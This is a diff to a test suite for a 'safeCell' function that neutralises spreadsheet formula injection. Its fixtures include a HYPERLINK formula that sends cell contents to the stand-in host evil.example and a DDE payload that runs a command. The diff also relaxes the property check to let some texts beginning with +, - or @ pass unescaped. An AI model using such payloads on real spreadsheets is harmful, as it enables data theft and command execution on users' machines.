@@ -46,6 +46,8 @@ describe('safeCell', () => {
     ['=HYPERLINK("https://evil.example?"&A1)', '\\u003dHYPERLINK("https://evil.example?"&A1)'],
     ['+1+cmd|" /C calc"!A0', '\\u002b1+cmd|" /C calc"!A0'],
     ['-2+3', '\\u002d2+3'],
+    ['-cmd|x', '\\u002dcmd|x'],
+    ['=A1', '\\u003dA1'],
     ['@SUM(1)', '\\u0040SUM(1)'],
     ['\t=1', '\\u0009=1'],
     ['\r=1', '\\u000d=1'],
@@ -54,14 +56,25 @@ describe('safeCell', () => {
     expect(safeCell(text)).toBe(safe);
   });
 
-  it.each(['', 'a=1', 'crm-read', '1-2', 'x@acme.example', '{"a":"=1"}'])('leaves %j as it is', (text) => {
+  it.each([
+    '-SQslYgJE81Q9_x',
+    '+4917012345',
+    '@alice',
+    '-',
+    '',
+    'a=1',
+    'crm-read',
+    '1-2',
+    'x@acme.example',
+    '{"a":"=1"}',
+  ])('leaves %j as it is', (text) => {
     expect(safeCell(text)).toBe(text);
   });
 
   it('begins with nothing that a spreadsheet would run, and changes a safe text no more', () => {
     fc.assert(
       fc.property(hostile, (text) => {
-        expect(safeCell(text)).not.toMatch(/^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/);
+        expect(safeCell(text)).toMatch(/^(?:[^=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]|$)|^[+\-@][\w.-]*$/);
         expect(safeCell(safeCell(text))).toBe(safeCell(text));
       }),
     );
